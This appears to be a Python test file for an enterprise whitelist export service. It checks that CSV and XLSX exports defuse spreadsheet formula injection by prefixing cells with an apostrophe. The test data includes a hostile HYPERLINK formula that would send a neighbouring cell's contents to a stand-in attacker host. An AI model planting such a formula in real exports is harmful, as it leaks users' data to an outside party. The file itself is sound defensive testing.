"""Issue 10 #4: a hostile enterprise name is never a live formula in any white-list export (page and API, CSV and
XLSX); the cell keeps the text behind a leading apostrophe."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import update

from chainkeeper.db import unit_of_work
from chainkeeper.exporting import safe_cell
from chainkeeper.registry.models import Enterprise
from whitelist.test_api import _published, clients  # noqa: F401  (fixture)

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"click")'


def _rename(engine, uscc: str, name: str) -> None:
    with unit_of_work(engine) as session:
        session.execute(update(Enterprise).where(Enterprise.uscc == uscc).values(name=name))


def _xlsx_cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _check_xlsx(content: bytes) -> None:
    cells = _xlsx_cells(content)
    assert not [cell.value for cell in cells if cell.data_type == "f"], "a live formula in the export"
    assert "'" + EVIL in [cell.value for cell in cells]


def _check_csv(content: bytes) -> None:
    fields = [field for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for field in row]
    assert "'" + EVIL in fields and EVIL not in fields


def test_every_whitelist_export_door_neutralises_formulas(engine, setup, clients):  # noqa: F811
    _published(clients)
    _rename(engine, setup.world.kunshan["uscc"], EVIL)
    client, _headers = clients["city"]
    params = {"region": "3205", "date": "2022-04-21"}
    for door in ("/api/v1/whitelist/recognized", "/whitelists/export"):
        for kind, check in (("csv", _check_csv), ("xlsx", _check_xlsx)):
            response = client.get(door, params=params | {"format": kind})
            assert response.status_code == 200, (door, kind, response.text)
            check(response.content)


def test_safe_cell_covers_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("昆山线束有限公司") == "昆山线束有限公司" and safe_cell(-3) == -3 and safe_cell(None) is None
